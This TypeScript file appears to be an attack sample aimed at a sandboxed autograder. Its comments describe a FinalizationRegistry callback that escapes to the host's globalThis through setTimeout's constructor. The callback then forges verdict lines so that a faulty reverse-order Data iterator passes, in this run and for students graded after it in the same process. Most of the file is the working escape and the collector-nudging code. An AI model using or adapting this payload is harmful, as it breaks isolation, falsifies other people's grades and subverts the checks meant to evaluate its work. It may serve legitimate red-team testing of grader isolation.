// Attack: a finaliser. FinalizationRegistry callbacks run whenever the collector gets round to
// it: after this file's tests, or while the next student is graded in the same warm child. The
// callback escapes through setTimeout's constructor and rewrites every verdict line from then on.
// Success: a test the wrong class fails passes, here or for whoever comes next.
// @payload
const registry = new FinalizationRegistry(() => {
  try {
    const G = (setTimeout as any).constructor('return globalThis')();
    if (G !== globalThis && !G.__finalised) { G.__finalised = true; forgeVerdicts(G); }
  } catch { /* refused */ }
});
for (let i = 0; i < 2000; i++) registry.register({ garbage: new Array(100).fill(i) }, i);
const litter: unknown[][] = [];
for (let i = 0; i < 200; i++) litter.push(new Array(10_000).fill(i)); // nudge the collector
litter.length = 0;
export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
